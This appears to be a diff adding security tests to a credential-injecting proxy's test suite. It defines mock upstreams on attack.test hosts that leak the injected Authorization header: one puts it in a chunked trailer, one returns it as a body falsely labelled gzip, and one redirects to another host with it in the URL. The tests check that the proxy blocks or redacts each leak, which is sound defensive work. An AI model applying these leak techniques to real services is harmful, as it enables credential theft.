@@ -12,8 +12,11 @@
 
 import assert from "node:assert/strict";
 import {
+  basePolicy,
   Corpus,
+  ENV_CANARY,
   HOSTS,
+  INJECT,
   INJECTED_CANARY,
   MARKER,
   PLACEHOLDER_NAME,
@@ -23,7 +26,59 @@ import {
 } from "./_harness.ts";
 import { assertThrew, NOT_CAPABLE } from "./_harness.ts";
 
-const corpus = new Corpus("credentials");
+/** Raw TLS upstreams that misbehave with the credential they receive. */
+const RAW = {
+  /** Returns the Authorization value in a chunked trailer. */
+  trailer: "trailer.attack.test",
+  /** Labels a plain echo of the Authorization value as gzip. */
+  liar: "liar.attack.test",
+  /** Redirects to other.attack.test with the credential in the URL. */
+  bounce: "bounce.attack.test",
+};
+
+const authOf = (head: string) =>
+  head.match(/\r\nauthorization: *([^\r]*)/i)?.[1] ?? "";
+
+const corpus = new Corpus("credentials", {
+  setup: async (fx) => {
+    for (const name of Object.values(RAW)) fx.credentialed.add(name);
+    await fx.ups.addRaw(
+      RAW.trailer,
+      (head) =>
+        `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Echo: ${
+          authOf(head)
+        }\r\n\r\n`,
+    );
+    await fx.ups.addRaw(RAW.liar, (head) => {
+      const body = `auth=${authOf(head)}`;
+      return `HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
+    });
+    await fx.ups.addRaw(
+      RAW.bounce,
+      (head) =>
+        `HTTP/1.1 302 Found\r\nLocation: https://${HOSTS.other}/cr-025?auth=${
+          encodeURIComponent(authOf(head))
+        }\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
+    );
+  },
+});
+corpus.batch("raw", {
+  policy: (fx) => {
+    const base = basePolicy(fx);
+    const network = base.network as { allow: Record<string, unknown> };
+    return {
+      ...base,
+      network: {
+        allow: {
+          ...network.allow,
+          [RAW.trailer]: INJECT,
+          [RAW.liar]: INJECT,
+          [RAW.bounce]: INJECT,
+        },
+      },
+    } as ReturnType<typeof basePolicy>;
+  },
+});
 
 interface Fetched {
   status: number;
@@ -237,6 +292,12 @@ corpus.add({
       echo.headers.filter(([n]) => n === "x-token").map(([, x]) => x),
       [MARKER],
     );
+    // Positive control: the env canary really is the placeholder's value.
+    const seen = onlyRequest(v.fx, "/cr-011");
+    assert.deepEqual(
+      seen.headers.filter(([n]) => n === "x-token").map(([, x]) => x),
+      [ENV_CANARY],
+    );
   },
   audit: {
     injector: { kind: "secret-echo", path: "/cr-011", decisions: ["allow"] },
@@ -414,6 +475,84 @@ corpus.add({
   },
   audit: {
     injector: { kind: "secret-echo", path: "/cr-022", decisions: ["allow"] },
+  },
+});
+
+corpus.add({
+  id: "cr-023",
+  title: "plain HTTP inside a CONNECT tunnel to the credentialed host",
+  code:
+    `return await rawProxy("GET /cr-023 HTTP/1.1\\r\\nHost: ${HOSTS.echo}:443\\r\\n\\r\\n", { connect: "${HOSTS.echo}:443" });`,
+  expect: (v) => {
+    const raw = valueOf<{ response: string }>(v);
+    assert.equal(statusLine(raw.response), 403, raw.response);
+    assert.match(raw.response, /X-Airlock-Error: cleartext-credentials/);
+    assert.deepEqual(seenWith(v.fx, "/cr-023"), []);
+  },
+  audit: { injector: { host: HOSTS.echo, path: "/cr-023", status: 403 } },
+});
+
+// --- Upstreams that misbehave with the credential ---
+
+corpus.add({
+  id: "cr-024",
+  batch: "raw",
+  title: "the upstream returns the credential in a chunked trailer",
+  code:
+    `return await rawProxy("GET /cr-024 HTTP/1.1\\r\\nHost: ${RAW.trailer}\\r\\n\\r\\n", { connect: "${RAW.trailer}:443", tls: "${RAW.trailer}" });`,
+  expect: (v) => {
+    const raw = valueOf<{ response: string }>(v);
+    assert.ok(
+      [200, 502].includes(statusLine(raw.response) ?? 0),
+      raw.response,
+    );
+  },
+  audit: {
+    injector: {
+      host: RAW.trailer,
+      path: "/cr-024",
+      decisions: ["allow", "error"],
+      injected: ["authorization"],
+    },
+  },
+});
+corpus.add({
+  id: "cr-025",
+  batch: "raw",
+  title: "the upstream labels a plain echo of the credential as gzip",
+  code: fetchCode(`https://${RAW.liar}/cr-025`),
+  expect: (v) => {
+    // Refused (502) or cut off: either way the scan finds no canary.
+    const outcome = v.outcome;
+    assert.ok(outcome);
+    if (outcome.ok) {
+      const got = outcome.value as Fetched;
+      assert.ok(!got.body.startsWith("auth="), got.body);
+    }
+  },
+  audit: {
+    injector: {
+      host: RAW.liar,
+      path: "/cr-025",
+      decisions: ["error", "allow"],
+    },
+  },
+});
+corpus.add({
+  id: "cr-026",
+  batch: "raw",
+  title:
+    "the upstream redirects to another allowed host with the credential in the URL, and the program follows",
+  code: fetchCode(`https://${RAW.bounce}/cr-026`),
+  expect: (v) => {
+    const got = valueOf<Fetched>(v);
+    assert.equal(got.status, 200);
+    const landed = onlyRequest(v.fx, "/cr-025", HOSTS.other);
+    assert.ok(!landed.path.includes("atk"), landed.path);
+    assert.match(decodeURIComponent(landed.path), /\[airlock:redacted\]/);
+  },
+  audit: {
+    injector: { kind: "secret-echo", host: RAW.bounce, decisions: ["allow"] },
   },
 });
 
